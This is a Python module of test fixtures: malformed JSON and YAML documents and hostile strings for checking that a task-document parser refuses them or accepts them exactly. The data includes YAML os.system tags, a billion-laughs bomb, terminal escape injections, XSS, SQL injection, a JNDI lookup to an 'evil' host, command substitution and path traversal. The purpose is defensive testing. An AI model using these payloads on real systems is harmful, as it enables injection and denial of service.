"""Documents that have broken other systems. Each is refused with a problem and no effect, or accepted exactly.

Refused documents are keyed by their fault. A text is put into the environment of a task, which accepts any text, or
into a label, which accepts only names that people can read and type.
"""

import json
from typing import Any


def document(value: str, place: str = "value") -> bytes:
    """A good document with one odd text, written as JSON writes it: in an environment, or as a label."""
    label, held = ('"a"', value) if place == "value" else (value, '"v"')
    return (
        b'{"tasks":{%s:{"task":{"payload":{"command":["true"],"env":{"X":%s}},"dimensions":{"pool":"default"}}}}}'
        % (
            label.encode(),
            held.encode(),
        )
    )


def yaml(text: str, value: str = "v") -> bytes:
    """A good document in YAML, behind some other lines."""
    task = f"task: {{payload: {{command: ['true'], env: {{X: {value}}}}}, dimensions: {{pool: default}}}}"
    return f"{text}\ntasks:\n  a: {{{task}}}\n".encode()


GOOD = document('"v"')
JSON_TEXTS: dict[str, bytes] = {
    "truncated": GOOD[:-1],
    "followed by another": GOOD + GOOD,
    "followed by a word": GOOD + b" x",
    "a comment": b"// hello\n" + GOOD,
    "a trailing comma": GOOD[:-1] + b",}",
    "single quotes": GOOD.replace(b'"', b"'"),
    "bytes that are no text": document('"\xff"').replace("\xff".encode(), b"\xff"),
    "an overlong slash": document('"?"').replace(b"?", b"\xc0\xaf"),
    "an encoded surrogate": document('"?"').replace(b"?", b"\xed\xa0\x80"),
    "beyond Unicode": document('"?"').replace(b"?", b"\xf4\x90\x80\x80"),
    "UTF-16": GOOD.decode().encode("utf-16"),
    "UTF-32": GOOD.decode().encode("utf-32"),
    "UTF-7": GOOD.decode().replace('"v"', '"+AGE-\\uD800"').encode(),
    "a raw NUL": document('"a\0b"'),
    "an escaped NUL": document('"a\\u0000b"'),
    "a raw newline in a text": document('"a\nb"'),
    "a raw escape in a text": document('"a\x1b[31mb"'),
    "the first half of a pair": document('"\\ud83d"'),
    "the second half of a pair": document('"\\udca9"'),
    "a pair the wrong way round": document('"\\udca9\\ud83d"'),
    "half an escape": document('"\\u12"'),
    "an unknown escape": document('"\\x41"'),
    "a key twice": b'{"name":"a","name":"b",' + GOOD[1:],
    "a key twice, once escaped": b'{"n\\u0061me":"a","name":"b",' + GOOD[1:],
    "a label twice": GOOD[:-2] + b',"a":{"task":{"payload":{"noop":true}}}}}',
    "a list around it": b"[" + GOOD + b"]",
    "lists a hundred thousand deep": b"[" * 100_000 + b"]" * 100_000,
    "lists without end": b"[" * 100_000,
    "objects ten thousand deep": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "a deep value": document("[" * 5_000 + "]" * 5_000),
}
NUMBERS: dict[str, str] = {
    "not a number": "NaN",
    "infinite": "Infinity",
    "infinitely small": "-Infinity",
    "beyond floats": "1e999",
    "beyond integers": str(2**63),
    "below integers": str(-(2**63) - 1),
    "beyond patience": "9" * 100_000,
    "exact no more": str(2**53 + 1),
    "a fraction": "1.5",
    "a whole fraction": "1.0",
    "a power": "1e2",
    "hexadecimal": "0x10",
    "octal": "010",
    "signed": "+1",
    "a dot behind": "1.",
    "a dot before": ".5",
    "digits of elsewhere": "\u0661",
    "negative": "-1",
    "negative nothing": "-0.0",
    "too many": "256",
    "true": "true",
    "a text": '"50"',
    "null": "null",
    "a list": "[50]",
}
YAML_TEXTS: dict[str, bytes] = {
    "an object of Python": yaml("x: !!python/object/apply:os.system ['true']"),
    "a name of Python": yaml("x: !!python/name:os.system"),
    "an unknown tag": yaml("x: !thing 1"),
    "a tag of a set": yaml("x: !!set {a, b}"),
    "a tag of bytes": yaml("x: !!binary aGk="),
    "a tag of a time": yaml("x: !!timestamp 2024-01-01"),
    "a tag that lies": yaml("x: !!int abc"),
    "a merge": yaml("x: &x {b: 1}\ny: {<<: *x}"),
    "an alias of nothing": yaml("x: *nobody"),
    "an alias of itself": yaml("x: &x [*x]"),
    "a billion laughs": yaml(
        "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
        + "\n".join(
            f"{new}: &{new} [{','.join([f'*{old}'] * 10)}]" for old, new in zip("abcdefghi", "bcdefghij", strict=True)
        )
    ),
    "aliases as keys": yaml("x: &x k\ny: {*x : 1, *x : 2}"),
    "a key twice": yaml("name: a\nname: b"),
    "a key that is a list": yaml("? [a, b]\n: 1"),
    "a key that is a number": b"tasks: {1: {task: {payload: {noop: true}}}, 1.0: {task: {payload: {noop: true}}}}\n",
    "two documents": b"---\n" + yaml("") + b"---\n" + yaml(""),
    "a directive": b"%FOO bar\n---\n" + yaml(""),
    "another version": b"%YAML 9.9\n---\n" + yaml(""),
    "a tab for blanks": b"tasks:\n\ta: 1\n",
    "a raw escape": yaml("", '"\x1b[31m"'),
    "an escaped NUL": yaml("", '"a\\0b"'),
    "an escaped surrogate": yaml("", '"\\ud800"'),
    "deep flows": b"[" * 50_000,
    "deep blocks": b"\n".join(b" " * depth + b"a:" for depth in range(3_000)),
    "deep dashes": b"- " * 20_000 + b"a",
    "an unclosed text": yaml("name: 'a"),
    "an anchor without end": b"&" + b"a" * 100_000,
}
#: Texts that a value takes as they are, whatever a terminal, a page, a shell or a database would make of them.
TEXTS: dict[str, str] = {
    "colours": "\x1b[31mred\x1b[0m",
    "a title": "\x1b]0;owned\x07",
    "a clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "a link": "\x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\",
    "a cursor": "\x1b[2J\x1b[1;1H$ rm -rf /",
    "controls of the eighth bit": "\x9b31m\x90q\x9c",
    "bells and backspaces": "a\b\bb\a\x7f\v\f",
    "lines": "one\r\ntwo\rthree\nfour\u2028five\u2029six\x85",
    "right to left": "invoice\u202efdp.exe",
    "nothing to see": "a\u200b\u200d\ufeff\u2060b",
    "decomposed": "e\u0301",
    "composed": "\u00e9",
    "confusable": "\u0430dmin",
    "an emoji family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "many marks": "Z" + "\u0351" * 200,
    "no characters": "\ufffe\uffff\U0010ffff",
    "a page": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "an address": "javascript:alert(1)//",
    "a query": "'; DROP TABLE task; --\\' OR 1=1",
    "a format": "%s%n{0}{0.__class__}${jndi:ldap://evil}{{7*7}}$(id)`id`",
    "a path": "../../etc/passwd",
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "JSON in JSON": json.dumps({"a": ['"', "\\"]}),
    "blanks": " \t a \u00a0\u3000",
    "long": "x" * 30_000,
    "empty": "",
}
#: Names that are refused, for their characters or their length; and valid names.
NO_NAMES: dict[str, str] = {name: TEXTS[name] for name in TEXTS if name not in {
    "composed", "confusable", "no characters", "a page", "an address", "a query", "a format", "a path", "JSON in JSON",
    "many marks",
}}  # fmt: skip
NAMES: dict[str, str] = {
    name: TEXTS[name] for name in ("composed", "confusable", "a page", "a query", "a format", "a path")
}
NAMES |= {
    "Norway": "no",
    "a number": "010",
    "dots": "a.b.*.#",
    "blanks inside": "a b",
    "another script": "\u4efb\u52a1",
}


def with_label(label: str) -> dict[str, Any]:
    """A document with one odd label."""
    return json.loads(document(json.dumps(label), "label"))  # type: ignore[no-any-return]
